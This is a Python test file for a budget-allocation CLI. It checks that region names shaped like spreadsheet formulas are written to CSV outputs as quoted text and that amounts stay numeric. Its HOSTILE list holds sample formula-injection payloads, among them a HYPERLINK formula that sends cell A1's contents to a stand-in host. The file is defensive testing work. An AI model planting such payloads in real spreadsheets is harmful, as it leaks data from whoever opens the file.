"""CSV formula injection (issue 12, item 7): names from the region list reach every CSV we write;
a spreadsheet must open them as text, and amounts (also negative ones) as numbers."""

import csv
import shutil
import subprocess

import pytest
from conftest import write_regions
from typer.testing import CliRunner

from budget.cli import app
from budget.writers.csv_writer import text_cell

runner = CliRunner()
HOSTILE = ['=HYPERLINK("http://example.invalid/?"&A1,"秦都区")', "+1+2", "-3+4", "@SUM(1,2)", "\t=1+1"]
CODES = ["610402", "610404", "610422", "610423", "610424"]
POLICY = """\
document: {number: 测试〔2018〕1号, title: 测试, issuers: [测试厅], date: 2018-01-02}
regions: {file: regions.yaml, scope: "610400"}
groups: {people: {name: 人员}}
subsidies:
  s:
    name: 补助
    unit: year
    population: {add: [people]}
    period: [{from: 2018-01, ref: 条款}]
    rate: [{from: 2018-01, value: 10, ref: 条款}]
    shares: [{from: 2018-01, split: {province: 50%, county: 50%}, ref: 条款}]
"""


@pytest.mark.parametrize("text, cell", [("=1+1", "'=1+1"), ("+86", "'+86"), ("-x", "'-x"), ("@a", "'@a"),
                                        ("\tx", "'\tx"), ("\rx", "'\rx"), ("秦都区", "秦都区"), ("", "")])
def test_text_cells_that_would_be_formulas_get_a_quote(text, cell):
    assert text_cell(text) == cell


@pytest.fixture(scope="module")
def hostile_outputs(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("hostile")
    write_regions(tmp / "regions.yaml", list(zip(CODES, HOSTILE)))
    (tmp / "p.yaml").write_text(POLICY, encoding="utf-8")
    people = "year,region_code,group,headcount\n"
    (tmp / "plan.csv").write_text(people + "".join(f"2018,{c},people,30\n" for c in CODES), "utf-8")
    (tmp / "actual.csv").write_text(people + "".join(f"2018,{c},people,{20 + i * 5}\n" for i, c in enumerate(CODES)),
                                    "utf-8")
    plan = runner.invoke(app, ["plan", "-p", str(tmp / "p.yaml"), "-H", str(tmp / "plan.csv"), "-o", str(tmp / "plan"),
                               "--no-pdf", "--advance-rate", "90%"])
    assert plan.exit_code == 0, plan.output
    settle = runner.invoke(app, ["settle", "-y", "2018", "--planned", str(tmp / "plan"), "--actual", str(tmp / "actual.csv"),
                                 "-o", str(tmp / "settle"), "--no-pdf"])
    assert settle.exit_code == 0, settle.output
    return [tmp / "plan" / "allocations.csv", tmp / "plan" / "advances.csv", tmp / "settle" / "settlement.csv",
            tmp / "settle" / "transfers.csv"]


def test_no_cell_of_any_csv_starts_a_formula(hostile_outputs):
    for path in hostile_outputs:
        rows = list(csv.reader(open(path, encoding="utf-8", newline="")))
        cells = [c for r in rows for c in r]
        assert any("HYPERLINK" in c for c in cells), path
        risky = [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))
                 or (c.startswith("-") and not c[1:].replace(".", "").isdigit())]
        assert risky == [], (path.name, risky)
    transfers = list(csv.DictReader(open(hostile_outputs[3], encoding="utf-8-sig")))
    assert any(r["amount"].startswith("-") for r in transfers), "the test needs a negative amount"


@pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice is not installed")
def test_libreoffice_opens_names_as_text_and_amounts_as_numbers(hostile_outputs, tmp_path):
    from openpyxl import load_workbook

    for path in hostile_outputs:
        subprocess.run(["soffice", f"-env:UserInstallation=file://{tmp_path / 'profile'}", "--headless",
                        "--infilter=CSV:44,34,76,1", "--convert-to", "xlsx", "--outdir", str(tmp_path), str(path)],
                       check=True, capture_output=True, timeout=180)
        sheet = load_workbook(tmp_path / path.with_suffix(".xlsx").name).worksheets[0]
        formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
        assert formulas == [], (path.name, formulas)
        header = [c.value for c in sheet[1]]
        for row in sheet.iter_rows(min_row=2, values_only=True):
            record = dict(zip(header, row))
            for column in ("amount", "planned", "actual", "difference", "headcount"):
                if column in record:
                    assert isinstance(record[column], (int, float)), (path.name, column, record[column])
